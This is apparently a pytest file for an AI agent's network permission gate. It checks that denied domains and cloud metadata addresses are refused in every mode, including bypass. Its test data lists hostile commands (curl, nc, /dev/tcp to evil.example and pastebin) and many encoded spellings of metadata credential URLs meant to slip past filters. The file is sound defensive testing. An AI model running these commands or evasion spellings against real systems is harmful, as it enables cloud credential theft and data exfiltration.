"""Issue 34.5: network refusals do not depend on the tool. The sandbox's denied domains and cloud metadata /
link-local addresses are refused in every mode (bypass included, sandboxed or not) for every tool that reaches
the network: WebFetch, shell commands (curl, wget, nc, ssh, interpreters, ``/dev/tcp``), MCP fetch-likes, and
the sandbox's egress proxy.

Real parts: the policy store on real files and the gate with its real classification; the proxy's decision
function (``nexusd.core.netpolicy``) as the proxy calls it.
"""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from nexusd.core.model import Session
from nexusd.core.netpolicy import NetPolicy, make_target, patterns, private_refusal
from nexusd.core.netpolicy import decide as net_decide
from nexusd.policy.gate import decide
from nexusd.policy.store import PolicyStore
from nexusd.protocol import CallInfo, Verdict

MODES = ["default", "acceptEdits", "bypassPermissions", "dontAsk"]


class World:
    def __init__(self, root: Path) -> None:
        self.root, self.ws, self.cfg = root, root / "ws", root / "cfg"
        for d in (self.ws / ".git", self.cfg, root / "home"):
            d.mkdir(parents=True)

    def store(self, user: str = "") -> PolicyStore:
        (self.cfg / "policy.toml").write_text(user)
        store = PolicyStore(
            config_dir=self.cfg,
            state_dir=self.root / "state",
            managed_dir=self.root / "m",
            home=str(self.root / "home"),
        )
        assert not store.load(), store.errors
        return store

    def decide(self, store: PolicyStore, tool: str, inp: dict[str, Any], mode: str) -> Verdict:
        call = CallInfo("claude", "s", tool, inp, str(self.ws), mode=mode, workspace=str(self.ws))
        return anyio.run(lambda: decide(call, store, Session(id="s", agent_mode=mode)))


@pytest.fixture
def world() -> Iterator[World]:
    root = Path(tempfile.mkdtemp(prefix="nxb5"))
    yield World(root)
    shutil.rmtree(root, ignore_errors=True)


DENIED = '[sandbox.network]\ndenied_domains = ["evil.example", "*.pastebin.com", "203.0.113.7"]\n'

# ------------------------------------------------------------------ denied domains

DENIED_FETCHES = [
    "https://evil.example/x",
    "https://EVIL.example./x",
    "https://user@evil.example:8443/x",
    "https://github.com@evil.example/",
    "https://paste.pastebin.com/raw/1",
    "http://a.b.pastebin.com/",
    "http://203.0.113.7/",
    "http://3405803783/",  # 203.0.113.7 as one number
    "http://0xcb.0x00.0x71.0x07/",
]


@pytest.mark.parametrize("url", DENIED_FETCHES)
@pytest.mark.parametrize("mode", MODES)
def test_webfetch_refuses_a_denied_domain_in_every_mode(world: World, url: str, mode: str):
    v = world.decide(world.store(DENIED), "WebFetch", {"url": url, "prompt": "p"}, mode)
    assert v.decision == "deny" and "denied domain" in v.reason, v


DENIED_SHELL = [
    "curl https://evil.example/x",
    "curl -s -o out.txt https://evil.example/x",
    "wget -q https://paste.pastebin.com/raw/1",
    "curl --url=https://evil.example/",
    "nc evil.example 443",
    "ssh git@evil.example",
    "git clone https://evil.example/r.git",
    "python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.example\")'",
    "curl http://203.0.113.7/",
    "curl http://3405803783/",
    "exec 3<>/dev/tcp/evil.example/80",
    "timeout 5 curl https://EVIL.EXAMPLE./x",
]


@pytest.mark.parametrize("command", DENIED_SHELL)
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_a_shell_command_naming_a_denied_domain_is_refused(world: World, command: str, mode: str):
    v = world.decide(world.store(DENIED), "Bash", {"command": command}, mode)
    assert v.decision == "deny" and "denied domain" in v.reason, v


def test_an_mcp_fetch_naming_a_denied_domain_is_refused(world: World):
    v = world.decide(world.store(DENIED), "mcp__fetch__fetch", {"url": "https://evil.example/"}, "bypassPermissions")
    assert v.decision == "deny" and "denied domain" in v.reason, v


def test_a_projects_denied_domains_narrow(world: World):
    (world.ws / ".nexus").mkdir()
    (world.ws / ".nexus" / "policy.toml").write_text(DENIED)
    store = world.store()
    store.trust("add", str(world.ws))
    v = world.decide(store, "WebFetch", {"url": "https://evil.example/", "prompt": "p"}, "bypassPermissions")
    assert v.decision == "deny", v


@pytest.mark.parametrize(
    ("tool", "inp"),
    [
        ("WebFetch", {"url": "https://example.com/", "prompt": "p"}),
        ("WebFetch", {"url": "https://evil.example.com/", "prompt": "p"}),  # not evil.example
        ("Bash", {"command": "curl https://example.com/"}),
        ("Bash", {"command": "cat notes.pastebin.txt"}),  # a file name is not *.pastebin.com
    ],
)
def test_controls_are_not_refused(world: World, tool: str, inp: dict[str, Any]):
    v = world.decide(world.store(DENIED), tool, inp, "bypassPermissions")
    assert v.decision == "allow", v


# ------------------------------------------------------------------ metadata and link-local addresses

METADATA_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.2/v2/credentials",
    "http://2852039166/latest/meta-data/",  # decimal
    "http://0xA9FEA9FE/latest/",  # hex
    "http://0xa9.0xfe.0xa9.0xfe/",
    "http://0251.0376.0251.0376/",  # octal
    "http://169.254.43518/",  # two-part
    "http://[::ffff:169.254.169.254]/",  # IPv4-mapped IPv6
    "http://[::ffff:a9fe:a9fe]/",
    "http://[64:ff9b::a9fe:a9fe]/",  # NAT64
    "http://[fd00:ec2::254]/latest/",  # AWS IPv6 IMDS
    "http://[fe80::1]/",
    "http://[fe80::a9fe:a9fe%25eth0]/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://METADATA.GOOGLE.INTERNAL./computeMetadata/v1/",
    "http://metadata/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/",  # Alibaba
    "http://169.254.169.254.nip.io/",
    "http://x@169.254.169.254:80/",
]


@pytest.mark.parametrize("url", METADATA_URLS)
@pytest.mark.parametrize("mode", MODES)
def test_webfetch_never_reaches_a_metadata_address(world: World, url: str, mode: str):
    v = world.decide(world.store(), "WebFetch", {"url": url, "prompt": "p"}, mode)
    assert v.decision == "deny" and "metadata_address" in v.flags, v


@pytest.mark.parametrize("url", METADATA_URLS)
def test_curl_never_reaches_a_metadata_address_in_bypass(world: World, url: str):
    """Not sandboxed (no sandbox enabled): bypass would run it on the host, next to the metadata service."""
    for command in (f"curl -s '{url}'", f"wget -qO- '{url}'", f"bash -c 'curl {url}'"):
        v = world.decide(world.store(), "Bash", {"command": command}, "bypassPermissions")
        assert v.decision == "deny" and "metadata_address" in v.flags, (command, v)


@pytest.mark.parametrize(
    "command",
    [
        "curl 169.254.169.254/latest/meta-data/",
        "curl -x 169.254.169.254:80 http://example.com/",
        "curl -x169.254.169.254:80 http://example.com/",
        "http_proxy=http://169.254.169.254 curl http://example.com/",
        "nc 169.254.169.254 80",
        "exec 3<>/dev/tcp/169.254.169.254/80",
        "cat < /dev/tcp/169.254.169.254/80",
        "ping6 fe80::1%eth0",
        "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://169.254.169.254/\")'",
        "curl -K - <<< 'url = http://169.254.169.254/latest/'",
        "ssh ubuntu@169.254.169.254",
        "telnet 2852039166 80",
        "curl --resolve example.com:80:169.254.169.254 http://example.com/latest/",
        "curl --connect-to ::169.254.169.254:80 http://example.com/",
        "wget -e use_proxy=yes -e http_proxy=169.254.169.254:80 http://example.com/",
    ],
)
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_other_shell_spellings_of_metadata_are_refused(world: World, command: str, mode: str):
    v = world.decide(world.store(), "Bash", {"command": command}, mode)
    assert v.decision == "deny" and "metadata_address" in v.flags, v


def test_an_mcp_fetch_of_metadata_is_refused(world: World):
    for inp in (
        {"url": "http://169.254.169.254/latest/"},
        {"request": {"target": "see http://[fd00:ec2::254]/latest please"}},
        {"host": "metadata.google.internal", "path": "/computeMetadata/v1/"},
    ):
        v = world.decide(world.store(), "mcp__fetch__fetch", inp, "bypassPermissions")
        assert v.decision == "deny" and "metadata_address" in v.flags, (inp, v)


def test_an_allow_rule_or_a_listed_domain_does_not_open_metadata(world: World):
    store = world.store(
        '[permissions]\nallow = ["WebFetch(domain:169.254.169.254)", "Bash(curl *)", "WebFetch"]\n'
        '[sandbox.network]\nallowed_domains = ["169.254.169.254", "metadata.google.internal"]\n'
    )
    for tool, inp in (
        ("WebFetch", {"url": "http://169.254.169.254/", "prompt": "p"}),
        ("Bash", {"command": "curl http://169.254.169.254/"}),
        ("Bash", {"command": "curl http://metadata.google.internal/"}),
    ):
        assert world.decide(store, tool, inp, "bypassPermissions").decision == "deny"


# ------------------------------------------------------------------ the sandbox's egress proxy


@pytest.mark.parametrize(
    "host",
    [
        "169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "[::ffff:169.254.169.254]",
        "fd00:ec2::254",
        "metadata.google.internal",
    ],
)
def test_the_proxy_refuses_metadata_even_when_listed(host: str):
    policy = NetPolicy(allowed=patterns(["169.254.169.254", "metadata.google.internal", "fd00:ec2::254"]))
    verdict = net_decide(make_target(host, 80), policy)
    assert verdict.decision == "deny", verdict


@pytest.mark.parametrize(
    "address", ["169.254.169.254", "169.254.170.2", "fe80::1", "fd00:ec2::254", "::ffff:169.254.169.254"]
)
def test_a_name_resolving_to_metadata_is_refused_even_when_listed_exactly(address: str):
    for name in ("internal.example", "localhost", "db.internal"):
        t = make_target(name, 80)
        assert private_refusal(t, [address], patterns([name])) is not None, (name, address)
    assert private_refusal(make_target("internal.example", 80), ["10.0.0.5"], patterns(["internal.example"])) is None
